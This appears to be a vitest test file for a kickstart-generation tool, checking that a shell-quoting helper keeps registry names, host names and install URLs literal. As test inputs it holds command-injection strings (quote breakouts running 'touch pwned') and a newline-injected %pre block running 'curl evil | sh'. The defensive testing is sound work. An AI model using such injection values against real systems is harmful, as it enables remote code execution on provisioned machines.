// Values reach a kickstart's lines and its %pre shell lines through one quoting helper
// (src/util/shell-quote.ts, the templates' `quote`). Before it, a registry name with a quote
// closed the single quotes of %pre's printf line and ran what followed, and a value with a
// newline started kickstart lines of its own.
import { execFileSync } from 'node:child_process';
import { existsSync, mkdtempSync, readFileSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import path from 'node:path';
import { describe, expect, it } from 'vitest';
import { buildKickstart, planSource } from '../../src/modules/anaconda/kickstart-plan.js';
import { parseKickstart } from '../../src/modules/anaconda/kickstart-parse.js';
import { renderText } from '../../src/template/index.js';
import { jinjaAdvice } from '../../src/template/jinja.js';

const TEMPLATE_FILE = path.resolve(import.meta.dirname, '../../playbooks/templates/ks.cfg.hbs');
const TEMPLATE = readFileSync(TEMPLATE_FILE, 'utf8');
const CALLBACK = { url: 'http://10.0.0.1:8080/install/0123456789abcdef01234567', token: 'tok-ABCdef_0123456789' };

async function render(vars: Record<string, unknown>, plan: ReturnType<typeof planSource>) {
  return buildKickstart({ vars: { inventory_hostname: 'node01', ...vars }, host: 'node01', task: 't', template: TEMPLATE, templateFile: TEMPLATE_FILE, plan, callback: CALLBACK, secret: () => undefined });
}

describe('kickstart values go through the one quoting helper', () => {
  it('a registry name with a quote is refused where the image is named, before any kickstart exists', () => {
    for (const image of ["oci://r';touch;'.lab/os:1", 'oci://r"x.lab:5000/os:1', 'oci://reg.lab:50x0/os:1']) {
      expect(() => planSource({ instance_info: { image_source: image } }, { tlsVerify: false }, () => undefined), image).toThrow(/names the registry .* not a host name or address/);
    }
  });

  it("%pre's insecure-registry line keeps a hostile name literal when run by a real shell", async () => {
    const plan = planSource({ instance_info: { image_source: 'oci://reg.lab:5000/os/bootc:41' } }, { tlsVerify: false }, () => undefined);
    // Past the parser's rule, as a replaced planner or template could hand it over.
    plan.insecureRegistry = "reg.lab'; touch pwned; echo '";
    const built = await render({}, plan);
    expect(built.problems).toEqual([]);
    const pre = parseKickstart(built.text).sections.find((s) => s.kind === 'pre')!.body;
    const line = pre.split('\n').find((l) => l.startsWith('printf'))!;
    const dir = mkdtempSync(path.join(tmpdir(), 'tsbm-ks-quote-'));
    try {
      execFileSync('sh', ['-c', line.replace('/etc/containers/registries.conf.d/tsbm-insecure.conf', 'out.conf')], { cwd: dir });
      expect(existsSync(path.join(dir, 'pwned'))).toBe(false);
      expect(readFileSync(path.join(dir, 'out.conf'), 'utf8')).toBe(`[[registry]]\nlocation = "reg.lab'; touch pwned; echo '"\ninsecure = true\n`);
    } finally {
      rmSync(dir, { recursive: true, force: true });
    }
  });

  it('a host name with a newline cannot start a kickstart line of its own', async () => {
    const plan = planSource({ instance_info: { image_source: 'oci://reg.lab/os:1' } }, { tlsVerify: true }, () => undefined);
    await expect(render({ inventory_hostname: 'n1\n%pre\ncurl evil | sh\n%end' }, plan)).rejects.toThrow(/quote: the value holds a control character \(U\+000A, a newline\)/);
  });

  it('the install source line is quoted for the kickstart parser, and a newline in it refused', async () => {
    const plan = planSource({ instance_info: { image_source: "https://img.lab/os/it's.tar.gz" } }, { tlsVerify: true }, () => undefined);
    const built = await render({}, plan);
    expect(built.text).toContain("liveimg --url='https://img.lab/os/it'\\''s.tar.gz'");
    expect(parseKickstart(built.text).commands.find((c) => c.name === 'liveimg')?.args).toEqual(["--url=https://img.lab/os/it's.tar.gz"]);
  });
});

describe('the quote helper', () => {
  const r = (tpl: string, vars: Record<string, unknown>) => renderText(tpl, { vars, baseDir: '/', pos: { file: 't.yml', line: 1, col: 1 } });
  it("is Ansible's quote: one POSIX shell word", () => {
    expect(r('{{ quote x }}', { x: "it's" })).toBe("'it'\\''s'");
    expect(r('{{ quote x }}', { x: 'plain/word:1' })).toBe('plain/word:1');
    expect(r('{{ quote x }}', { x: '' })).toBe("''");
    expect(r('{{ quote x }}', { x: 'a\tb' })).toBe("'a\tb'");
  });
  it('refuses a control character, naming it', () => {
    expect(() => r('{{ quote x }}', { x: 'a\nb' })).toThrow(/quote: the value holds a control character \(U\+000A, a newline\)/);
    expect(() => r('{{ quote x }}', { x: 'a\rb' })).toThrow(/U\+000D/);
  });
  it('Jinja habit {{ x | quote }} is answered with the helper form', () => {
    expect(jinjaAdvice('{{ x | quote }}')).toMatchObject({ instead: '{{ quote x }}' });
  });
});
